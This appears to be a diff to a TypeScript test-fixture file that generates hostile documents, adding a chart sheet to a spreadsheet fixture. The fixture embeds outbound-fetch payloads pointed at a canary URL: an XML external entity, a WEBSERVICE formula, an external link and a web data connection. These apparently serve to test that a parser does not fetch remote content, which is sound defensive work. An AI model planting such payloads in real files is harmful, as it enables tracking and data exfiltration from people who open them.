@@ -71,7 +71,7 @@ export async function lockedPdf(): Promise<Uint8Array> {
   return pdf.save();
 }
 
-/** External links, a picture and a data connection that lie elsewhere, and a formula that fetches. */
+/** External links, a picture and a data connection that lie elsewhere, and a formula that fetches; and a sheet that is a chart. */
 export function hostileXlsx(canary: string): Uint8Array {
   const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
   const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
@@ -81,14 +81,15 @@ export function hostileXlsx(canary: string): Uint8Array {
       '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
     ),
     'xl/workbook.xml': strToU8(
-      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Kosten" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+      `<workbook xmlns="${main}" xmlns:r="${office}"><sheets><sheet name="Kosten" sheetId="1" r:id="rId1"/><sheet name="Grafiek" sheetId="2" r:id="rId2"/></sheets></workbook>`,
     ),
     'xl/_rels/workbook.xml.rels': strToU8(
-      `<Relationships xmlns="${packageNs}"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId9" Type="${office}/externalLink" Target="${canary}/link.xlsx" TargetMode="External"/></Relationships>`,
+      `<Relationships xmlns="${packageNs}"><Relationship Id="rId1" Type="${office}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${office}/chartsheet" Target="chartsheets/sheet1.xml"/><Relationship Id="rId9" Type="${office}/externalLink" Target="${canary}/link.xlsx" TargetMode="External"/></Relationships>`,
     ),
     'xl/worksheets/sheet1.xml': strToU8(
       `<!DOCTYPE x [<!ENTITY e SYSTEM "${canary}/entity">]><worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Omgekocht</t></is></c><c r="B1"><f>WEBSERVICE("${canary}/formula")</f><v>1250</v></c></row></sheetData></worksheet>`,
     ),
+    'xl/chartsheets/sheet1.xml': strToU8(`<chartsheet xmlns="${main}"/>`),
     'xl/connections.xml': strToU8(
       `<connections xmlns="${main}"><connection id="1" name="x"><webPr url="${canary}/connection"/></connection></connections>`,
     ),
